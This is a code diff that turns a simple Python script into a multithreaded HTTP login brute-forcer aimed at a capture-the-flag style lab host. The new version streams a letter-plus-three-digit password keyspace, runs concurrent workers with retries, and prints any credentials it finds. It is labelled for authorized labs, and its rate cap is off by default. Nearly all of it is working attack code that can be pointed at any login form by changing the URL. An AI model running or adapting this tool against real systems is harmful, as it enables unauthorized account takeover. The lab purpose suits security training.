@@ -4,27 +4,212 @@
 #     "requests",
 # ]
 # ///
+"""
+HTTP login form tester for authorized lab targets (e.g. python.thm).
+
+Streams the a000-z999 password keyspace from a generator, so it is never
+held in memory, and tries candidates from a bounded pool of worker threads
+sharing one keep-alive requests.Session. An optional rate cap protects the
+target, and every worker stops as soon as one attempt succeeds. Network
+errors and non-2xx answers (429, 502, 503, ...) are retried with a short
+backoff; candidates that still get no real answer are reported, and the
+exit status is 2 if no password was found while some were skipped.
+
+Example:
+    python3 bruteforce.py --url http://python.thm/labs/lab1/index.php -w 16 --rate 200
+
+DISCLAIMER: Only use this tool against systems you own or are explicitly
+authorized to test.
+"""
+import argparse
+import string
+import sys
+import threading
+
 import requests
+from requests.adapters import HTTPAdapter
+
+import netcore
 
 url = "http://python.thm/labs/lab1/index.php"
 
 username = "admin"
 
-# generating a 4-digit numeric password (0000-9999)
-numeric_value = [str(i).zfill(3) for i in range(1000)]
-for char_code in range(ord('a'), ord('z') + 1):
-    alphabet_char = chr(char_code)
-    password_list = alphabet_char + str(numeric_value)
 
-def brute_force():
-    for password in password_list:
-        data = {"username": username, "password": password}
-        response = requests.post(url, data=data)
+def password_candidates(letters=string.ascii_lowercase, digits=3):
+    """Yields every letter followed by a zero-padded number (a000-z999)."""
+    for letter in letters:
+        for number in range(10 ** digits):
+            yield f"{letter}{number:0{digits}d}"
+
+
+def keyspace_size(letters=string.ascii_lowercase, digits=3):
+    return len(letters) * 10 ** digits
+
+
+def make_session(workers):
+    """A Session whose connection pool keeps one connection per worker alive."""
+    session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=1, pool_maxsize=workers)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
+    return session
+
+
+def print_progress(metrics, total, stop, interval=0.5):
+    """Redraws a one-line progress/throughput display until stop is set."""
+    tried = metrics.counter("attempts")
+    while not stop.wait(interval):
+        rate = metrics.rate("attempts")
+        print(f"\r[*] {tried.value}/{total} tried  {rate:7.1f}/s", end="", file=sys.stderr)
+    print(file=sys.stderr)
+
+
+def brute_force(target_url=url, user=username, candidates=None, workers=16, rate=0,
+                timeout=10, fail_marker="Invalid", retries=2, progress=True):
+    """
+    Tries candidates against the login form until one is accepted.
+
+    Args:
+        target_url (str): The form's POST URL
+        user (str): Username submitted with every attempt
+        candidates (iterable): Passwords to try, defaults to a000-z999
+        workers (int): Attempts in flight at once
+        rate (float): Maximum attempts per second, 0 for no cap
+        timeout (float): Seconds allowed per request
+        fail_marker (str): Text present in the response when a login fails
+        retries (int): Extra tries for a candidate after an error
+        progress (bool): Show the progress line on stderr
+
+    Returns:
+        tuple: (password or None, candidates never answered, netcore.MetricsRegistry)
+    """
+    if candidates is None:
+        candidates, total = password_candidates(), keyspace_size()
+    else:
+        total = len(candidates) if hasattr(candidates, "__len__") else "?"
+    candidates = iter(candidates)
+    session = make_session(workers)
+    limiter = netcore.RateLimiter(rate)
+    metrics = netcore.MetricsRegistry()
+    attempts = metrics.counter("attempts")
+    errors = metrics.counter("errors")
+
+    # generators are not thread-safe, so workers take turns pulling from it
+    candidates_lock = threading.Lock()
+    found = []
+    skipped = []
+    stop = threading.Event()
+
+    def worker():
+        while not stop.is_set():
+            with candidates_lock:
+                password = next(candidates, None)
+            if password is None:
+                return
+
+            for attempt in range(retries + 1):
+                limiter.acquire()
+                if stop.is_set():
+                    return
+                try:
+                    with metrics.timer("request"):
+                        response = session.post(
+                            target_url,
+                            data={"username": user, "password": password},
+                            timeout=timeout,
+                        )
+                except requests.RequestException:
+                    response = None
+                # redirects are followed, so anything but a 2xx here is the
+                # server (or a proxy in front of it) refusing to answer, not
+                # a page without the fail marker
+                if response is None or not 200 <= response.status_code < 300:
+                    errors.inc()
+                    # back off before retrying; returns early once stopped
+                    stop.wait(0.1 * 2 ** attempt)
+                    continue
+                attempts.inc()
+                if fail_marker not in response.text:
+                    found.append(password)
+                    stop.set()
+                break
+            else:
+                skipped.append(password)
+
+    done = threading.Event()
+    if progress:
+        display = threading.Thread(target=print_progress, args=(metrics, total, done),
+                                   daemon=True)
+        display.start()
+
+    threads = [threading.Thread(target=worker, daemon=True) for _ in range(workers)]
+    try:
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+    except KeyboardInterrupt:
+        stop.set()
+    finally:
+        done.set()
+        if progress:
+            display.join()
+        session.close()
+
+    return (found[0] if found else None), skipped, metrics
+
+
+def main():
+    parser = argparse.ArgumentParser(
+        description="Concurrent HTTP login form tester (authorized labs only)",
+        epilog="Example: python3 bruteforce.py --url http://python.thm/labs/lab1/index.php",
+    )
+    parser.add_argument("--url", default=url, help=f"login form URL (default: {url})")
+    parser.add_argument("-u", "--username", default=username,
+                        help=f"username to try (default: {username})")
+    parser.add_argument("-w", "--workers", type=int, default=16,
+                        help="attempts in flight at once (default: 16)")
+    parser.add_argument("--rate", type=float, default=0,
+                        help="maximum attempts per second, 0 for no cap (default: 0)")
+    parser.add_argument("--timeout", type=float, default=10,
+                        help="seconds allowed per request (default: 10)")
+    parser.add_argument("--fail-marker", default="Invalid",
+                        help="text in the response of a failed login (default: Invalid)")
+    parser.add_argument("--retries", type=int, default=2,
+                        help="extra tries for a candidate after an error (default: 2)")
+    parser.add_argument("-q", "--quiet", action="store_true", help="hide the progress line")
+    args = parser.parse_args()
+
+    password, skipped, metrics = brute_force(
+        args.url,
+        args.username,
+        workers=args.workers,
+        rate=args.rate,
+        timeout=args.timeout,
+        fail_marker=args.fail_marker,
+        retries=args.retries,
+        progress=not args.quiet,
+    )
+
+    snapshot = metrics.snapshot()
+    tried = snapshot["counters"].get("attempts", 0)
+    request = snapshot["histograms"].get("request", {})
+    print(f"[*] {tried} attempts in {snapshot['elapsed']:.1f}s "
+          f"({metrics.rate('attempts'):.1f}/s, p50 {request.get('p50', 0) * 1000:.1f} ms, "
+          f"{snapshot['counters'].get('errors', 0)} errors)")
+
+    if password is not None:
+        print(f"[+] Found valid credentials: {args.username}:{password}")
+        return
+    if skipped:
+        print(f"[-] No valid password found, but {len(skipped)} candidates got no answer "
+              f"after {args.retries + 1} tries:")
+        print("    " + " ".join(skipped))
+        sys.exit(2)
+    print("[-] No valid password found")
+    sys.exit(1)
 
-        if "Invalid" not in response.text:
-            print(f"[+] Found valid credentials: {username}:{password}")
-            break
-        else:
-            print(f"Combined value: {password}")
 
-brute_force()
\ No newline at end of file
+if __name__ == "__main__":
+    main()